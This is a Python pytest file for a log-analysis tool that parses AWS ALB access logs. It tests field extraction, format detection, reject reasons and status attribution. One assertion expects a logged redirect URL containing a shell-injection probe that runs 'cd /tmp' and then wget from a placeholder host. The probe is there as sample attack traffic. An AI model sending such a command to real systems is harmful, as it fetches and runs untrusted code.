"""AWS ALB access logs, through the public path (pipeline.plan/read and the CLI).

The fixtures in fixtures/alb/ are compared with their goldens in test_format_fixtures.py.
"""

from __future__ import annotations

import gzip
import json
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from logstat.formats import alb
from tests.helpers import (
    AWS_EXPECTED,
    FIXTURES,
    SHARED_CORPUS,
    check_expected_statuses,
    data_files,
    golden_of,
    parse_run,
    run_cli,
    sample_of,
    write_log,
)


def test_gzip_s3_object_is_read_by_magic_bytes() -> None:
    (log,) = (FIXTURES / "alb").glob("*_elasticloadbalancing_*_app.*.log.gz")
    assert gzip.decompress(log.read_bytes())  # really gzip, as AWS writes it
    run, _ = parse_run(log)
    assert (run.format_name, run.compression, run.counts.records) == ("alb", "gzip", 3)


def test_every_documented_field_is_kept() -> None:
    """Fields beyond the canonical schema come out as extra columns under AWS's names."""
    log = FIXTURES / "alb" / "layouts.log"
    _, frame = parse_run(log)
    newest = frame.filter(pl.col("line_no") == 6).row(0, named=True)
    assert newest["trace_id"] == "Root=1-679e0c00-0123456789abcdef01234567"
    assert newest["target_group_arn"].endswith("targetgroup/web/73e2d6bc24d8a067")
    assert newest["matched_rule_priority"] == 3
    assert newest["actions_executed"] == "forward"
    assert newest["ssl_cipher"] == "TLS_AES_128_GCM_SHA256"
    assert newest["ssl_protocol"] == "TLSv1.3"
    assert newest["chosen_cert_arn"].startswith("arn:aws:acm:")
    assert newest["conn_trace_id"] == "TID_1234abcd5678ef901234abcd5678ef91"
    assert newest["transformed_host"] == "new.example.com"
    assert newest["transformed_uri"] == "/b?c=d"
    assert newest["request_transform_status"] == "TransformSuccess"
    assert newest["load_balancer"] == "app/my-alb/50dc6c495c0c9188"
    assert newest["bytes_received"] == 90
    assert newest["target_processing_time_s"] == pytest.approx(0.010)
    assert str(newest["request_creation_time"]) == "2025-02-01 11:59:59.990000+00:00"
    redirect = frame.filter(pl.col("line_no") == 4).row(0, named=True)
    assert redirect["redirect_url"] == "https://127.0.0.1:443/shell?cd+/tmp;wget+ a.example/x"
    assert redirect["classification_reason"] == "SpaceInUri"
    retried = frame.filter(pl.col("line_no") == 9).row(0, named=True)
    assert retried["target_list"] == "10.0.0.1:80 10.0.0.2:80"
    assert retried["upstream_status_list"] == "502 200"


def test_summary_needs_parse_only_what_it_reads() -> None:
    """With `needed`, the parser fills only those columns (the summary never pays for agents)."""
    frame = (
        alb.LAYOUT.parse(
            pl.LazyFrame({"line": (FIXTURES / "alb" / "requests.log").read_text().splitlines()}),
            {"status", "upstream_status"},
        )
        .collect()
        .drop("line")
    )
    # the bookkeeping columns besides: kind, reason, fields after the last known one
    assert set(frame.columns) == {
        "status",
        "upstream_status",
        "line_kind",
        "reject_reason",
        "trailing_fields",
    }
    assert frame["line_kind"].to_list() == ["record"] * frame.height


# The real-world corpus


def _corpus_names(directory: str) -> list[str]:
    return [path.name for path in data_files(SHARED_CORPUS / directory)]


@pytest.mark.parametrize("name", _corpus_names("alb"))
def test_corpus_file_is_detected_as_alb(corpus: Path, name: str) -> None:
    log = corpus / "alb" / name
    run, frame = parse_run(log)
    assert run.format_name == "alb"
    assert run.counts.records > 0
    assert frame.filter(pl.col("line_kind") == "rejected")["reject_reason"].null_count() == 0
    if golden_of(log).exists():
        check_expected_statuses(log, frame, AWS_EXPECTED)


def test_corpus_mixed_nlb_and_connection_log_lines_are_rejected(corpus: Path) -> None:
    run, frame = parse_run(corpus / "alb" / "elastic-integrations_aws_elb_logs_test-alb.log")
    assert run.format_name == "alb"
    reasons = dict(
        frame.filter(pl.col("line_kind") == "rejected").group_by("reject_reason").len().iter_rows()
    )
    assert reasons == {
        "network load balancer (NLB) entry, not an ALB access entry": 4,
        "ALB connection log entry (TLS handshake, no HTTP status)": 3,
    }
    records = frame.filter(pl.col("line_kind") == "record")
    assert records["line_no"].to_list() == [1, 2, 10]
    # line 10: malformed request, `200 -`: the ALB answered without a target
    assert records.row(2, named=True)["produced_by"] == "proxy"


def test_corpus_alb_and_classic_elb_mix(corpus: Path) -> None:
    """ALB wins the file (10 of 16 lines); classic ELB lines are rejected naming --format elb."""
    log = corpus / "alb" / "plaso_test_data_aws_elb_access.log"
    run, frame = parse_run(log)
    assert run.format_name == "alb"
    rejected = frame.filter(pl.col("line_kind") == "rejected")
    assert rejected["line_no"].to_list() == [11, 12, 13, 14, 15, 16]
    assert set(rejected["reject_reason"][:4]) == {
        "classic ELB entry (no request type first): read it with --format elb"
    }
    _, as_elb = parse_run(log, format="elb")
    assert as_elb.filter(pl.col("line_kind") == "record")["line_no"].to_list() == [11, 12, 13, 14]


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        (
            "otel-collector-contrib_awslogsencodingextension_elb-access-log_testdata_alb_al_insufficient_fields.log",
            "too few fields for an ALB entry (at least 17)",
        ),
        (
            "otel-collector-contrib_awslogsencodingextension_elb-access-log_testdata_alb_al_invalid_syntax.log",
            "unknown ALB request type (known: http, https, h2, grpcs, ws, wss)",
        ),
    ],
)
def test_corpus_odd_alb_files_are_rejected_with_reasons(
    corpus: Path, name: str, reason: str
) -> None:
    log = corpus / "odd" / name
    detected, _ = parse_run(log)
    assert detected.choice is None  # no format claims them
    run, frame = parse_run(log, format="alb")
    assert run.counts.records == 0
    assert frame["reject_reason"].to_list() == [reason] * frame.height


@pytest.mark.parametrize("directory", ["nginx", "apache", "iis", "cloudflare", "elb", "odd"])
def test_alb_detection_claims_no_other_format(corpus: Path, directory: str) -> None:
    for log in data_files(corpus / directory):
        assert alb.FORMAT.detect(sample_of(log)) is None, log.name


# produced_by: one test per rule

PASSED = "200 200"


def alb_line(statuses: str = PASSED, target: str = "10.0.0.1:80", error: str = '"-"') -> str:
    return (
        f"http 2024-03-02T09:00:00.000000Z app/my-alb/50dc6c495c0c9188 192.0.2.20:3000 {target} "
        f'0.000 0.001 0.000 {statuses} 34 366 "GET http://www.example.com:80/ HTTP/1.1" '
        '"curl/8.5.0" - - arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/web/1 '
        f'"Root=1-65e1a8e0-0123456789abcdef01234567" "-" "-" 0 2024-03-02T09:00:00.000000Z '
        f'"forward" "-" {error} "-" "-" "-" "-"'
    )


def produced(tmp_path: Path, lines: list[str]) -> list[str | None]:
    _, frame = parse_run(write_log(tmp_path, lines))
    assert frame["line_kind"].to_list() == ["record"] * len(lines)
    return frame["produced_by"].to_list()


@pytest.mark.parametrize("status", ["460", "463", "464", "561", "000"])
def test_alb_own_codes_are_the_proxys(tmp_path: Path, status: str) -> None:
    assert produced(tmp_path, [alb_line(f"{status} -")]) == ["proxy"]


@pytest.mark.parametrize(
    ("statuses", "target", "error"),
    [
        ("502 -", "10.0.0.1:80", '"-"'),  # target unreachable
        ("503 -", "-", '"-"'),  # no registered targets
        ("504 -", "10.0.0.1:80", '"-"'),  # target timed out
        ("403 -", "-", '"-"'),  # AWS WAF block
        ("301 -", "-", '"-"'),  # redirect action
        ("401 -", "-", '"-"'),  # authenticate action denied
        ("502 -", "-", '"LambdaInvalidResponse"'),  # Lambda failed
    ],
)
def test_no_target_status_means_the_proxy_answered(
    tmp_path: Path, statuses: str, target: str, error: str
) -> None:
    assert produced(tmp_path, [alb_line(statuses, target, error)]) == ["proxy"]


@pytest.mark.parametrize("statuses", ["502 200", "500 404", "200 204"])
def test_a_status_other_than_the_targets_is_the_proxys(tmp_path: Path, statuses: str) -> None:
    assert produced(tmp_path, [alb_line(statuses)]) == ["proxy"]


@pytest.mark.parametrize("statuses", ["200 200", "502 502", "503 503", "404 404", "101 101"])
def test_the_targets_status_passed_through_is_the_upstreams(tmp_path: Path, statuses: str) -> None:
    assert produced(tmp_path, [alb_line(statuses)]) == ["upstream"]


def test_a_lambda_answer_is_the_upstreams(tmp_path: Path) -> None:
    """Lambda targets log target `-`, but the function's status as target status."""
    assert produced(tmp_path, [alb_line("200 200", target="-")]) == ["upstream"]


def test_no_status_at_all_is_unknown(tmp_path: Path) -> None:
    assert produced(tmp_path, [alb_line("- -", target="-")]) == ["unknown"]


# Parsing rules


def test_processing_time_of_minus_one_voids_the_total(tmp_path: Path) -> None:
    line = alb_line().replace("0.000 0.001 0.000", "0.002 -1 0.000")
    _, frame = parse_run(write_log(tmp_path, [line, alb_line()]))
    assert frame["request_time_s"].to_list() == [None, pytest.approx(0.001)]
    assert frame["target_processing_time_s"].to_list() == [None, pytest.approx(0.001)]


def test_query_is_what_follows_the_question_mark_as_in_other_formats(tmp_path: Path) -> None:
    """`?-` is a query of "-" (a client sent it), not a field AWS left empty: nginx agrees."""
    targets = ["/a?-", "/a?", "/a", "/a?x=1&y=-"]
    expected = ["-", "", None, "x=1&y=-"]
    albs = [
        alb_line().replace("example.com:80/ ", f"example.com:80{target} ") for target in targets
    ]
    _, frame = parse_run(write_log(tmp_path, albs, "alb.log"))
    assert frame["query"].to_list() == expected
    nginx = [
        f'192.0.2.20 - - [02/Mar/2024:09:00:00 +0000] "GET {target} HTTP/1.1" 200 5 "-" "curl"'
        for target in targets
    ]
    _, frame = parse_run(write_log(tmp_path, nginx, "nginx.log"), format="nginx")
    assert frame["query"].to_list() == expected


def test_detection_reports_matched_over_sampled(tmp_path: Path) -> None:
    log = write_log(tmp_path, [alb_line(), "garbage", alb_line(), ""])
    run, _ = parse_run(log)
    assert run.choice is not None
    assert run.choice.detection.confidence == "2/3 sample lines matched"


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=80)))
def test_every_line_is_a_record_or_rejected_with_a_reason(texts: list[str]) -> None:
    """Counts add up whatever the input: nothing is dropped, every reject says why."""
    lines = [text.replace("\n", " ").replace("\r", " ") for text in texts] + [alb_line()]
    frame = alb.LAYOUT.parse(pl.LazyFrame({"line": lines}, schema={"line": pl.String})).collect()
    kinds = frame["line_kind"].to_list()
    assert len(kinds) == len(lines)
    assert set(kinds) <= {"record", "rejected"}
    assert kinds[-1] == "record"
    rejected = frame.filter(pl.col("line_kind") == "rejected")
    assert rejected["reject_reason"].null_count() == 0


# The CLI, end to end


def test_cli_summary_explains_alb_statuses() -> None:
    code, out, _ = run_cli(str(FIXTURES / "alb" / "produced_by.log"), "--json", in_process=True)
    assert code == 0
    summary = json.loads(out)
    assert summary["files"][0]["source"] == "alb"
    statuses = {(row["status"], row["produced_by"]): row for row in summary["statuses"]}
    assert statuses[460, "proxy"]["vendor"] == "alb"
    assert statuses[460, "proxy"]["proxy"] == 1
    # one row per producer, each with its own meaning: ALB's own 502 (target `-`, or a
    # target 200 replaced) against the target's 502 that ALB passed on
    assert (statuses[502, "proxy"]["count"], statuses[502, "upstream"]["count"]) == (3, 1)
    assert statuses[502, "proxy"]["vendor"] == "alb"
    assert "load balancer" in statuses[502, "proxy"]["meaning"]
    assert statuses[502, "upstream"]["vendor"] == "iana"
    assert statuses[502, "upstream"]["name"] == "Bad Gateway"
    # a 500 the target sent is not "ALB-side failure"
    assert (statuses[500, "upstream"]["vendor"], statuses[500, "upstream"]["count"]) == ("iana", 1)
    assert {row["produced_by"] for row in summary["statuses"] if row["vendor"] == "alb"} == {
        "proxy"
    }
    upstream = {row["upstream_status"]: row["count"] for row in summary["upstream_statuses"]}
    assert upstream == {200: 2, 502: 1, 500: 1, 404: 1}


def test_cli_rejects_a_format_string_for_alb() -> None:
    code, _, err = run_cli(
        "--format",
        "alb",
        "--log-format",
        "$status",
        str(FIXTURES / "alb" / "rejects.log"),
        in_process=True,
    )
    assert code == 2
    assert "fixed layout" in err
